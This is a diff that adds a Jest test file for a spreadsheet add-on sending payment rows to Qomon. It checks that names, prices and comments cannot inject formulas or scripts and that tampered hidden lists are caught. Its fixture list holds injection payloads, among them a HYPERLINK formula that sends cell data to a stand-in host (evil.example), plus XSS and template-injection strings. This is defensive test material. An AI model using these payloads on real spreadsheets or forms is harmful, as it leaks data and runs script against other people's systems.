@@ -1,0 +1,194 @@
+import { describe, expect, test } from '@jest/globals';
+import { Office } from '../support/office';
+import { addColumns, choose, PAYMENT } from '../support/rows';
+
+/** What somebody may call themselves on a public form, or a colleague may call a price. */
+const TEXTS = [
+  '=HYPERLINK("https://evil.example/?"&A2,"Camille")',
+  '=IMPORTXML("https://evil.example","//a")',
+  '+33 6 12 34 56 78',
+  '-2+3',
+  '@here',
+  '\t=1+1',
+  "'=1+1",
+  '<img src=x onerror=alert(1)>',
+  '</script><script>alert(1)</script>',
+  '{{constructor.constructor("alert(1)")()}}',
+  'line one\n=1+1',
+  '\u202Eevil',
+];
+
+/** Every formula anywhere in the spreadsheet, of hidden tabs too. */
+function formulas({ google: { workbook } }: Office): string[] {
+  return workbook
+    .sheets()
+    .flatMap(({ name }) => workbook.formulas(name).flat())
+    .filter((formula) => formula !== '');
+}
+
+/** A number for each text. */
+const ID = (index: number): number => 900_001 + index;
+
+describe('somebody who calls a thing by a formula, or by a script', () => {
+  test('gets no formula into the sheet by the name of a payer', () => {
+    const office = Office.ready();
+    const [model] = office.qomon.space.state.contacts;
+    if (!model) throw new Error('The sample space has no contact');
+    TEXTS.forEach((text, index) => {
+      const mail = `payer${index}@example.org`;
+      office.qomon.space.add('contacts', {
+        ...model,
+        id: ID(index),
+        firstname: text,
+        surname: text,
+        mail,
+      });
+    });
+    office.type(
+      TEXTS.map((_, index) => ({
+        ...PAYMENT,
+        'Payer ID': '',
+        'Payer email': `payer${index}@example.org`,
+      })),
+    );
+    choose(office, 'checkRows', `2:${TEXTS.length + 1}`);
+    expect(office.column('Payer ID')).toEqual(TEXTS.map((_, index) => ID(index)));
+    expect(office.column('Payer name').map((name) => typeof name)).toEqual(
+      TEXTS.map(() => 'string'),
+    );
+    expect(formulas(office)).toEqual([]);
+  });
+
+  test('gets no formula into the sheet by the name of a price, a status or a campaign', () => {
+    const office = Office.ready();
+    const { space } = office.qomon;
+    const [price] = space.state.membershipPrices;
+    const [status] = space.state.statuses;
+    const [campaign] = space.state.codeCampaigns;
+    if (!price || !status || !campaign) throw new Error('The sample space has no lists');
+    TEXTS.forEach((text, index) => {
+      space.add('membershipPrices', { ...price, id: ID(index), name: text });
+      space.add('statuses', { ...status, id: ID(index), name: text });
+      space.add('codeCampaigns', { ...campaign, id: ID(index), code: text });
+    });
+    space.changeSettings({ payment_method_kinds: ['CB', ...TEXTS] });
+    office.call('refreshLists');
+    office.type(TEXTS.map((_, index) => ({ ...PAYMENT, Membership: `#${ID(index)}` })));
+    office.send(`2:${TEXTS.length + 1}`);
+    expect(office.column('State')).toEqual(TEXTS.map(() => 'Sent'));
+    expect(formulas(office)).toEqual([]);
+  });
+
+  test('gets it to Qomon as it was typed, and no cell of the row changed by it', () => {
+    const office = Office.ready();
+    const last = TEXTS.length + 1;
+    const range = `${office.at('Comment', 2)}:${office.at('Comment', last)}`;
+    office.google.workbook.format('Bundles', range, '@');
+    office.type(TEXTS.map(() => PAYMENT));
+    office.google.workbook.put(
+      'Bundles',
+      office.at('Comment', 2),
+      TEXTS.map((text) => [text]),
+    );
+    const run = office.send(`2:${last}`);
+    expect(office.column('Comment')).toEqual(TEXTS);
+    expect(office.posted(run)).toMatchObject(
+      TEXTS.map((text) => ({ data: { transactions: [{ comment: text.trim() }] } })),
+    );
+    expect(formulas(office)).toEqual([]);
+  });
+});
+
+describe('a formula that an editor has put into a cell', () => {
+  test('is read by its value, stays a formula, and is never made by the add-on', () => {
+    const office = Office.ready();
+    office.type([{ ...PAYMENT, Amount: '' }]);
+    const at = office.at('Amount', 2);
+    office.google.workbook.type('Bundles', at, '=10*2');
+    office.google.workbook.computed('Bundles', at, 20);
+    const run = office.send('2');
+    expect(office.posted(run)).toMatchObject([{ data: { transactions: [{ amount: 2000 }] } }]);
+    expect(formulas(office)).toEqual(['=10*2']);
+  });
+});
+
+describe('a cell with as much text as a cell holds', () => {
+  test('does not keep the other rows from being sent, and is told or sent whole', () => {
+    const office = Office.ready();
+    office.type([PAYMENT, { ...PAYMENT, Amount: '30' }]);
+    const long = 'é'.repeat(50_000);
+    office.google.workbook.put('Bundles', office.at('Comment', 2), [[long]]);
+    const run = office.send('2:3');
+    expect(office.column('State')).toEqual(['Sent', 'Sent']);
+    expect(office.posted(run)).toContainEqual(
+      expect.objectContaining({
+        data: { transactions: [expect.objectContaining({ comment: long })] },
+      }),
+    );
+  });
+});
+
+describe('a tab with a hostile header or name', () => {
+  test('is left alone, and the rows of the other tabs are sent', () => {
+    const office = Office.ready();
+    const { workbook } = office.google;
+    workbook.addSheet('=1+1 <b>');
+    workbook.put('=1+1 <b>', 'A1', [
+      ['Payer ID', 'x'.repeat(50_000), '__proto__', 'constructor', 'State', 'toString'],
+    ]);
+    addColumns(office, ['__proto__', 'constructor', 'toString']);
+    office.type([PAYMENT]);
+    office.send('2');
+    expect(office.column('State')).toEqual(['Sent']);
+    expect(formulas(office)).toEqual([]);
+  });
+});
+
+describe('an editor who tampers with the lists', () => {
+  /** Replaces a text anywhere in the hidden tab. */
+  function tamper(office: Office, from: RegExp, to: string): void {
+    const { workbook } = office.google;
+    const values = workbook.values('Qomon lists');
+    const changed = values.map((row) =>
+      row.map((cell) => (typeof cell === 'string' ? cell.replace(from, to) : cell)),
+    );
+    expect(changed).not.toEqual(values);
+    workbook.put('Qomon lists', 'A1', changed);
+  }
+
+  test('changes no amount that is paid: the dialog and Qomon have what the row says', () => {
+    const office = Office.ready();
+    tamper(office, /"amount":2000/, '"amount":1');
+    office.type([{ ...PAYMENT, Membership: '#10', 'Membership amount': '20' }]);
+    const run = office.send('2');
+    expect(office.dialogs[0]?.prompt).toContain('20.00 EUR');
+    expect(office.dialogs[0]?.prompt).toContain('1 warning');
+    expect(office.posted(run)).toMatchObject([{ data: { transactions: [{ amount: 2000 }] } }]);
+  });
+
+  test('cannot change the currency unseen', () => {
+    const office = Office.ready();
+    tamper(office, /"currency":"eur"/, '"currency":"usd"');
+    office.answer = () => 'CANCEL';
+    office.type([PAYMENT]);
+    office.send('2');
+    expect(office.dialogs[0]?.prompt).toContain('20.00 USD');
+    expect(office.qomon.ledger.bundles).toEqual([]);
+  });
+
+  test.each([
+    ['what is no JSON', /\{/, '{{'],
+    ['another shape', /"id":/, '"__proto__":'],
+    ['a formula', /^\{.*$/, '=1+1'],
+  ])('gets rows told, not sent wrongly, by %s', (_, from, to) => {
+    const office = Office.ready();
+    tamper(office, from, to);
+    office.type([{ ...PAYMENT, Membership: '#10' }]);
+    const run = office.send('2');
+    expect(office.posted(run)).toEqual([]);
+    expect(office.said()).not.toBe('');
+    office.call('refreshLists');
+    office.send('2');
+    expect(office.cell('State', 2)).toBe('Sent');
+  });
+});
